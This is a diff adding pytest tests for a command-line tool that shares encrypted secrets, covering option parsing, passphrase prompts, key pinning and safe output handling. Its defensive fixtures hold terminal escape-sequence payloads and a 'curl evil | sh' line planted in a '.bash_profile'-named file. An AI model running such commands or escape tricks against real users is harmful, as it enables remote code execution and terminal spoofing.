@@ -521,3 +521,266 @@ def test_share_link_is_not_a_manage_link(fake: FakeServer) -> None:
     outcome = atopos("secret", "status", link)
     assert outcome.code == ExitCode.USAGE
     assert "share link, not a manage link" in outcome.stderr
+
+
+# -- global options after the command -------------------------------------------------------
+
+
+def atopos_as_typed(*args: str, stdin: bytes = b"", server_env: str | None = None) -> Outcome:
+    """`atopos ARGS`, without the `--server` the other tests put first."""
+    with CliRunner().isolation(input=stdin, env={"ATOPOS_SERVER": server_env}) as (out, err, _):
+        code = run(list(args))
+        sys.stdout.flush()
+        sys.stderr.flush()
+        return Outcome(code, out.getvalue(), err.getvalue().decode())
+
+
+def test_server_after_the_command(fake: FakeServer) -> None:
+    outcome = atopos_as_typed("secret", "create", "--server", SERVER, stdin=b"hunter2")
+    assert outcome.code == 0, outcome.stderr
+    assert parse_share_link(outcome.stdout.decode()).server == SERVER
+    assert fake.hits["create"] == 1
+
+
+def test_server_after_the_command_wins_over_the_environment(fake: FakeServer) -> None:
+    outcome = atopos_as_typed(
+        "secret", "create", "--server", SERVER, stdin=b"x", server_env="http://127.0.0.1:9"
+    )
+    assert outcome.code == 0, outcome.stderr
+    assert parse_share_link(outcome.stdout.decode()).server == SERVER
+
+
+def test_the_same_server_before_and_after_is_fine(fake: FakeServer) -> None:
+    outcome = atopos_as_typed(
+        "--server", SERVER, "secret", "create", "--server", SERVER, stdin=b"x"
+    )
+    assert outcome.code == 0, outcome.stderr
+
+
+def test_two_different_servers_are_a_usage_error(fake: FakeServer) -> None:
+    outcome = atopos_as_typed(
+        "--server", SERVER, "secret", "create", "--server", "http://other.test", stdin=b"x"
+    )
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert outcome.stderr == (
+        "Error: --server was given twice with different values (before and after the "
+        "command); give it once.\n"
+    )
+    assert fake.hits["create"] == 0
+
+
+def test_a_pin_after_the_command_is_in_force() -> None:
+    # A pinned client talks https only: it refuses plain http before connecting at all.
+    pin = "sha256/" + "A" * 43 + "="
+    server = "http://127.0.0.1:9"
+    outcome = atopos_as_typed("secret", "create", "--server", server, "--pin-spki", pin)
+    assert outcome.code == ExitCode.NETWORK
+    assert "pinned key can only be checked over https" in outcome.stderr
+    link = str(ShareLink(server, b64url_encode(bytes(16)), bytes(32)))
+    refused = atopos_as_typed("secret", "reveal", link, "--pin-spki", pin)
+    assert refused.code == ExitCode.NETWORK
+    assert "pinned key can only be checked over https" in refused.stderr
+
+
+def test_a_lifetime_under_a_minute_is_refused_before_anything_is_sent(fake: FakeServer) -> None:
+    outcome = atopos("secret", "create", "--expires", "30s", stdin=b"x")
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert (
+        outcome.stderr
+        == "Error: A secret must live at least 1 minute; give --expires 1m or more.\n"
+    )
+    assert fake.hits["create"] == 0
+    assert atopos("secret", "create", "--expires", "60s", stdin=b"x").code == 0
+
+
+# -- a new passphrase typed on the terminal -------------------------------------------------
+
+
+@dataclasses.dataclass
+class Terminal:
+    """What the person at the terminal types (`answers`) and the prompts they saw."""
+
+    answers: list[str]
+    prompts: list[str]
+
+
+@pytest.fixture
+def terminal(monkeypatch: pytest.MonkeyPatch) -> Terminal:
+    seen = Terminal([], [])
+
+    def getpass(prompt: str = "Password: ", stream: object = None) -> str:
+        seen.prompts.append(prompt)
+        if not seen.answers:
+            raise EOFError
+        return seen.answers.pop(0)
+
+    monkeypatch.setattr("atopos.cli.secret.has_terminal", lambda: True)
+    monkeypatch.setattr("atopos.cli.passphrase.getpass.getpass", getpass)
+    return seen
+
+
+def test_passphrase_is_asked_twice_and_locks_the_secret(
+    fake: FakeServer, terminal: Terminal, tmp_path: Path
+) -> None:
+    terminal.answers.extend(["correct horse", "correct horse"])
+    link, _ = create_text(b"hunter2", "--passphrase")
+    assert terminal.prompts == ["Passphrase for the secret: ", "The same passphrase again: "]
+    fake.secrets[parse_share_link(link).secret_id].views = 2
+    without = atopos("secret", "reveal", link)
+    assert (without.code, without.stdout) == (ExitCode.REFUSED, b"")
+    revealed = atopos(
+        "secret", "reveal", link, "--passphrase-file", passphrase_file(tmp_path, "correct horse")
+    )
+    assert (revealed.code, revealed.stdout) == (0, b"hunter2")
+
+
+def test_two_different_passphrases_send_nothing(fake: FakeServer, terminal: Terminal) -> None:
+    terminal.answers.extend(["correct horse", "correct hose"])
+    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert outcome.stderr == "Error: The two passphrases differ; nothing was sent.\n"
+    assert fake.hits["create"] == 0
+
+
+def test_an_empty_passphrase_sends_nothing(fake: FakeServer, terminal: Terminal) -> None:
+    terminal.answers.extend([""])
+    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert outcome.stderr == "Error: The passphrase must not be empty; nothing was sent.\n"
+    assert fake.hits["create"] == 0
+
+
+def test_end_of_input_at_the_prompt_sends_nothing(fake: FakeServer, terminal: Terminal) -> None:
+    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
+    assert outcome.code == ExitCode.USAGE
+    assert fake.hits["create"] == 0
+
+
+def test_passphrase_without_a_terminal_points_to_the_file_option(
+    fake: FakeServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("atopos.cli.secret.has_terminal", lambda: False)
+    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert "--passphrase-file" in outcome.stderr
+    assert outcome.stderr.count("\n") == 1
+    assert fake.hits["create"] == 0
+
+
+def test_passphrase_and_passphrase_file_together_are_a_usage_error(
+    fake: FakeServer, terminal: Terminal, tmp_path: Path
+) -> None:
+    outcome = atopos(
+        "secret",
+        "create",
+        "--passphrase",
+        "--passphrase-file",
+        passphrase_file(tmp_path, "x"),
+        stdin=b"hunter2",
+    )
+    assert outcome.code == ExitCode.USAGE
+    assert fake.hits["create"] == 0
+
+
+# -- what reaches a terminal, and what reaches a directory ------------------------------------
+
+HOSTILE_TEXT = "hi\x1b]0;owned\x07 \x1b[2J\rgone\u202eexe.txt\nnext\tline\n"
+
+
+@pytest.fixture
+def stdout_is_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("atopos.cli.secret.is_tty", lambda stream: stream is sys.stdout)
+
+
+def file_secret(fake: FakeServer, content: bytes, name: str) -> str:
+    key = os.urandom(32)
+    metadata = Metadata(kind="file", size=len(content), name=name)
+    envelope = seal(content, metadata, key, random_bytes=os.urandom)
+    return str(ShareLink(SERVER, fake.add(envelope), key))
+
+
+def test_escape_sequences_are_shown_not_obeyed_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None
+) -> None:
+    link, _ = create_text(HOSTILE_TEXT.encode())
+    outcome = atopos("secret", "reveal", link)
+    assert outcome.code == 0, outcome.stderr
+    assert outcome.stdout == (b"hi\\x1b]0;owned\\x07 \\x1b[2J\\x0dgone\\u202eexe.txt\nnext\tline\n")
+
+
+def test_a_pipe_gets_the_exact_bytes(fake: FakeServer) -> None:
+    link, _ = create_text(HOSTILE_TEXT.encode())
+    assert atopos("secret", "reveal", link).stdout == HOSTILE_TEXT.encode()
+
+
+def test_a_large_text_streams_to_a_terminal_escaped(
+    fake: FakeServer, stdout_is_a_terminal: None
+) -> None:
+    text = ("line \x1b[1m" * 200_000).encode()  # past the 1 MiB held back
+    link, _ = create_text(text)
+    outcome = atopos("secret", "reveal", link)
+    assert outcome.code == 0, outcome.stderr
+    assert outcome.stdout == text.replace(b"\x1b", b"\\x1b")
+
+
+def test_a_text_file_is_shown_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    link = file_secret(fake, b"notes \x1b[31m\n", "notes.txt")
+    outcome = atopos("secret", "reveal", link)
+    assert (outcome.code, outcome.stdout) == (0, b"notes \\x1b[31m\n")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_binary_content_is_saved_instead_of_dumped_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "secret.bin").write_bytes(b"older")
+    content = b"\x89PNG\r\n\x1a\n\x00\x00" + os.urandom(2_000_000)
+    link = file_secret(fake, content, ".bashrc")
+    outcome = atopos("secret", "reveal", link)
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    saved = tmp_path / "secret (1).bin"
+    assert outcome.stderr == (
+        "Error: The secret is not text, so it was not printed on the terminal; it was saved "
+        f"to {saved} instead (choose where with -o PATH).\n"
+    )
+    assert saved.read_bytes() == content
+    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
+    assert (tmp_path / "secret.bin").read_bytes() == b"older"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["secret (1).bin", "secret.bin"]
+
+
+def test_binary_content_still_goes_to_a_pipe(fake: FakeServer) -> None:
+    content = b"\x00\x01\x02" + os.urandom(1000)
+    link = file_secret(fake, content, "blob")
+    assert atopos("secret", "reveal", link).stdout == content
+
+
+def test_a_dot_file_name_is_not_recreated_in_the_directory(
+    fake: FakeServer, tmp_path: Path
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "bash_profile").write_text("mine")
+    link = file_secret(fake, b"curl evil | sh\n", ".bash_profile")
+    outcome = atopos("secret", "reveal", link, "-o", str(home))
+    assert outcome.code == 0, outcome.stderr
+    assert sorted(path.name for path in home.iterdir()) == ["bash_profile", "bash_profile (1)"]
+    assert (home / "bash_profile").read_text() == "mine"
+    assert (home / "bash_profile (1)").read_bytes() == b"curl evil | sh\n"
+
+
+def test_binary_content_that_cannot_be_saved_says_so(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    monkeypatch.chdir(gone)
+    gone.rmdir()  # the current directory no longer exists: nothing can be saved in it
+    outcome = atopos("secret", "reveal", file_secret(fake, b"\x00\x01", "blob"))
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert "could not be saved in the current directory" in outcome.stderr
+    assert outcome.stderr.count("\n") == 1
